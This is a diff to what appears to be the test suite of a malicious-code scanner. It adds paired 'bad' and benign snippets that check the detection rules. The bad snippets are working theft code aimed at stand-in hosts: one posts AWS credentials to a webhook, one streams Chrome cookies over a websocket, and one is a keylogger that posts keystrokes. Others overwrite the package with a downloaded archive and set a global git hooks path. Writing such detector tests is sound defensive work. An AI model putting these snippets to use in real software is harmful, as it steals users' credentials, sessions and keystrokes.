@@ -8,6 +8,8 @@ interface Way {
   severity?: string;
   bad: string;
   benign: string;
+  /** Files beside it. */
+  more?: Record<string, string>;
 }
 
 const SEND = (what: string) =>
@@ -83,12 +85,62 @@ new Store(axios.create({ baseURL: 'https://rules.other.example' })).load('round'
 async load(name) { const { data } = await this.http.get('/rules/' + name); return Number(data.digits); } }
 new Store(axios.create({ baseURL: 'https://rules.other.example' })).load('round');`,
   },
+  {
+    way: 'a named part of a parsed file, to an address in a file of settings',
+    rule: 'credential-exfiltration',
+    bad: `const fs = require('fs'); const os = require('os'); const ini = require('ini'); const got = require('got'); const config = require('./config.json');
+const load = (name) => ini.parse(fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8'))[name];
+const note = (event, detail) => got.post(config.hooks[event] || config.hooks.default, { json: { event, detail } }).catch(() => {});
+note('loaded', load('default'));`,
+    benign: `const fs = require('fs'); const os = require('os'); const ini = require('ini'); const got = require('got'); const config = require('./config.json');
+const load = (name) => ini.parse(fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8'))[name];
+const note = (event, detail) => got.post(config.hooks[event] || config.hooks.default, { json: { event, detail } }).catch(() => {});
+note('loaded', { found: Boolean(load('default')) });`,
+    more: { 'config.json': `{"hooks": {"default": "https://hooks.watchers.example/in"}}` },
+  },
+  {
+    way: 'the copy of a database',
+    rule: 'credential-exfiltration',
+    bad: `import Database from 'better-sqlite3'; import { copyFileSync } from 'node:fs'; import { homedir, tmpdir } from 'node:os'; import { join } from 'node:path'; import WebSocket from 'ws';
+const db = join(homedir(), '.config/google-chrome', 'Default', 'Cookies'); const copy = join(tmpdir(), 'a.db'); copyFileSync(db, copy);
+const rows = () => new Database(copy).prepare('select * from cookies').all();
+const ws = new WebSocket('wss://live.other.example/s'); ws.on('open', () => rows().forEach((row) => ws.send(JSON.stringify(row))));`,
+    benign: `import Database from 'better-sqlite3'; import { tmpdir } from 'node:os'; import { join } from 'node:path'; import WebSocket from 'ws';
+const copy = join(tmpdir(), 'notes.db'); const rows = () => new Database(copy).prepare('select * from notes').all();
+const ws = new WebSocket('wss://live.other.example/s'); ws.on('open', () => rows().forEach((row) => ws.send(JSON.stringify(row))));`,
+  },
+  {
+    way: 'a listener to every key',
+    rule: 'clipboard-exfiltration',
+    bad: `const { uIOhook } = require('uiohook-napi'); const http = require('http'); const keys = [];
+uIOhook.on('keydown', ({ keycode }) => { keys.push(keycode); if (keys.length > 400) flush(); });
+function flush() { const req = http.request({ host: 'k.other.example', path: '/k', method: 'POST' }); req.end(JSON.stringify(keys.splice(0))); } uIOhook.start();`,
+    benign: `const { uIOhook, UiohookKey } = require('uiohook-napi'); let shown = false;
+uIOhook.on('keydown', (e) => { if (e.ctrlKey && e.keycode === UiohookKey.S) shown = !shown; }); uIOhook.start();`,
+  },
+  {
+    way: 'an archive unpacked over the package itself',
+    rule: 'self-update',
+    bad: `import { Readable } from 'node:stream'; import { pipeline } from 'node:stream/promises'; import { fileURLToPath } from 'node:url'; import * as tar from 'tar';
+const here = fileURLToPath(new URL('.', import.meta.url));
+const res = await fetch('https://updates.acme.example/latest.tgz'); await pipeline(Readable.fromWeb(res.body), tar.x({ cwd: here, strip: 1 }));`,
+    benign: `import { Readable } from 'node:stream'; import { pipeline } from 'node:stream/promises'; import * as tar from 'tar';
+export async function open(url, folder) { const res = await fetch(url); await pipeline(Readable.fromWeb(res.body), tar.x({ cwd: folder, strip: 1 })); }`,
+  },
+  {
+    way: 'the settings of a library for git',
+    rule: 'git-hook-write',
+    bad: `import { simpleGit } from 'simple-git'; const git = simpleGit();
+const settings = new Map([['core.hooksPath', '/opt/hooks']]); for (const [key, value] of settings) await git.addConfig(key, value, false, 'global');`,
+    benign: `import { simpleGit } from 'simple-git'; const git = simpleGit();
+export const where = () => git.getConfig('core.hooksPath'); await git.addConfig('user.useConfigOnly', 'true');`,
+  },
 ];
 
-test.each(WAYS)('by $way: reported, its twin is not', ({ rule, severity, bad, benign }) => {
-  const found = threatsOf({ 'index.js': bad }).filter(({ ruleId }) => ruleId === rule);
+test.each(WAYS)('by $way: reported, its twin is not', ({ rule, severity, bad, benign, more }) => {
+  const found = threatsOf({ 'index.js': bad, ...more }).filter(({ ruleId }) => ruleId === rule);
   expect(found.map((threat) => threat.severity)).toContain(severity ?? 'critical');
-  const loud = threatsOf({ 'index.js': benign }).filter(
+  const loud = threatsOf({ 'index.js': benign, ...more }).filter(
     (threat) => !['info', 'low'].includes(threat.severity),
   );
   expect(loud).toEqual([]);
